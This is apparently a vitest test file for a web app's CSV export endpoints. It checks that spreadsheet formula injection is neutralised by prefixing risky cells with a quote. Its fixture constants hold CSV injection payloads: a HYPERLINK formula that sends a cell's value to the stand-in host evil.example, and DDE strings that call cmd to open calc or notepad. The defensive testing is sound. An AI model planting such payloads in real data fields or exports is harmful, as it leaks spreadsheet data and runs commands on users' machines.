import type { AddressInfo } from "node:net";
import type { Server } from "node:http";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { openTestDatabase, type TestDatabase } from "../test/database.js";
import { createApp, type App } from "../server/app.js";
import { insertFixture } from "../analytics/analytics.fixture.js";
import { Round } from "../round/round.entity.js";
import { Provider } from "../provider/provider.entity.js";
import { Award } from "../award/award.entity.js";
import { SpendTransaction } from "../award/spend-transaction.entity.js";
import { Council } from "../council/council.entity.js";
import { neutraliseFormula } from "./csv.js";

// Cells a spreadsheet would run (OWASP CSV injection), stored through the ordinary entities.
const ROUND_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")';
const PROVIDER = "@SUM(1+1)*cmd|' /C calc'!A0";
const AWARD = "-2+3+cmd|' /C calc'!A0";
const SPEND = "+cmd|' /C notepad'!A0";
const COUNCIL = "\t=1+1 Borough";

describe("the one CSV writer neutralises formulas", () => {
  it("prefixes ' to text starting with = + - @ tab or CR, and leaves plain numbers alone", () => {
    expect(neutraliseFormula("=1+1")).toBe("'=1+1");
    expect(neutraliseFormula("+44 20 7946 0000")).toBe("'+44 20 7946 0000");
    expect(neutraliseFormula("-2+3")).toBe("'-2+3");
    expect(neutraliseFormula("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(neutraliseFormula("\t=1")).toBe("'\t=1");
    expect(neutraliseFormula("\r=1")).toBe("'\r=1");
    expect(neutraliseFormula("-0.05")).toBe("-0.05");
    expect(neutraliseFormula("-32000.00")).toBe("-32000.00");
    expect(neutraliseFormula("+3")).toBe("+3");
    expect(neutraliseFormula("-")).toBe("'-");
    expect(neutraliseFormula("-1e5")).toBe("'-1e5");
    expect(neutraliseFormula("Youth talent show")).toBe("Youth talent show");
    expect(neutraliseFormula("a=b")).toBe("a=b");
  });
});

describe(`every CSV download with formula payloads (${process.env.TEST_DATABASE_URL ? "postgres" : "sqlite"})`, () => {
  let db: TestDatabase;
  let app: App;
  let server: Server;
  let base: string;
  beforeAll(async () => {
    db = await openTestDatabase();
    const f = await insertFixture(db.dataSource);
    const ds = db.dataSource;
    await ds.getRepository(Round).update({ key: f.r1.key }, { title: ROUND_TITLE });
    await ds.getRepository(Provider).update({ key: f.p1.key }, { name: PROVIDER });
    await ds.getRepository(Award).update({ roundKey: f.r1.key }, { title: AWARD });
    await ds.createQueryBuilder().update(SpendTransaction).set({ description: SPEND }).execute();
    await ds.getRepository(Council).update({ key: f.alpha.key }, { name: COUNCIL });
    app = await createApp(ds, { webDist: "/nonexistent", rateLimitPerMinute: 0, responseCacheSeconds: 0 });
    server = app.app.listen(0);
    base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  });
  afterAll(async () => {
    await new Promise((resolve) => server.close(resolve));
    await app.apollo.stop();
    await db.close();
  });

  const download = async (path: string) => {
    const res = await fetch(`${base}/exports/${path}`);
    expect(res.status, path).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/text\/csv/);
    const rows: string[][] = parse(await res.text());
    return rows;
  };
  /** No cell may start like a formula unless it is a plain number. */
  const expectSafe = (rows: string[][]) => {
    for (const row of rows)
      for (const cell of row) if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^[+-]?\d+(\.\d+)?$/);
  };
  const column = (rows: string[][], header: string) => {
    const i = rows[0]!.indexOf(header);
    expect(i, header).toBeGreaterThanOrEqual(0);
    return rows.slice(1).map((r) => r[i]!);
  };

  it("awards.csv", async () => {
    const rows = await download("awards.csv");
    expectSafe(rows);
    expect(column(rows, "round_title")).toContain(`'${ROUND_TITLE}`);
    expect(column(rows, "provider_name")).toContain(`'${PROVIDER}`);
    expect(column(rows, "award_title")).toContain(`'${AWARD}`);
    expect(column(rows, "council_name")).toContain(`'${COUNCIL}`);
  });

  it("spend.csv", async () => {
    const rows = await download("spend.csv");
    expectSafe(rows);
    expect(column(rows, "description")).toContain(`'${SPEND}`);
    expect(column(rows, "provider_name")).toContain(`'${PROVIDER}`);
  });

  it("rounds.csv", async () => {
    const rows = await download("rounds.csv");
    expectSafe(rows);
    expect(column(rows, "round_title")).toContain(`'${ROUND_TITLE}`);
  });

  it("spending.csv by council, provider and round", async () => {
    for (const [groupBy, label] of [
      ["council", COUNCIL],
      ["provider", PROVIDER],
      ["round", ROUND_TITLE],
    ] as const) {
      const rows = await download(`spending.csv?groupBy=${groupBy}`);
      expectSafe(rows);
      expect(column(rows, "label"), groupBy).toContain(`'${label}`);
    }
  });
});
